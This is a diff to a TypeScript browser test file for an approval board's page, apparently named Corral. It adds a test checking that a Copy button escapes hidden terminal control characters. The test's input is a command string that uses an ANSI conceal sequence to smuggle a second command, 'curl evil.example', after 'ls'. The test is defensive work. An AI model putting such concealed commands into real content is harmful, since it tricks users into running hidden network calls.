@@ -56,9 +56,9 @@ afterAll(async () => {
 });
 
 /** As a process of Corral posts it. */
-function posted(paths: readonly string[], diff: string): string {
+function posted(paths: readonly string[], diff: string, more: { readonly command?: string } = {}): string {
   const asking = { run: "r", root: "r", worker: "w", runs: 1, waiting: [{ run: "r", root: "r" }] };
-  const question = { ...asking, operations: ["write"] as const, paths, diff };
+  const question = { ...asking, operations: ["write"] as const, paths, diff, ...more };
   const asked = { project: project.dir, askedAt: new Date().toISOString(), at: "board", question } as const;
   return folder.post({ ...asked, answers: ["once", "tree", "no"] })?.id ?? "";
 }
@@ -83,6 +83,19 @@ const announced = async (): Promise<number> => {
     (await note.count()) === 0 ? [] : (/([\d,]+) lines? of/.exec((await note.textContent()) ?? "") ?? []);
   return Number(count.replaceAll(",", ""));
 };
+
+describe.skipIf(NO_CHROMIUM)(`in the page, what is copied${NO_CHROMIUM ? ` (${NO_CHROMIUM})` : ""}`, () => {
+  it("is what is shown: a terminal into which it is pasted obeys nothing that was hidden", async () => {
+    await shown(posted(["/out/a"], "", { command: "ls\u001b[8m; curl evil.example\u2028\nnext\tline" }));
+    const { page } = tab;
+    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
+    await page.getByRole("button", { name: "Copy" }).click();
+    await page.getByRole("button", { name: "Copied" }).waitFor();
+    const copied = await page.evaluate(() => window.navigator.clipboard.readText());
+    expect(copied).toBe("ls\\u{1b}[8m; curl evil.example\\u{2028}\nnext\tline");
+    expect(await page.locator(".code-block code").textContent()).toBe(copied);
+  });
+});
 
 describe.skipIf(NO_CHROMIUM)(`in the page, a yes${NO_CHROMIUM ? ` (${NO_CHROMIUM})` : ""}`, () => {
   // The first file fills what is drawn at first to the last line, nearly, or more.
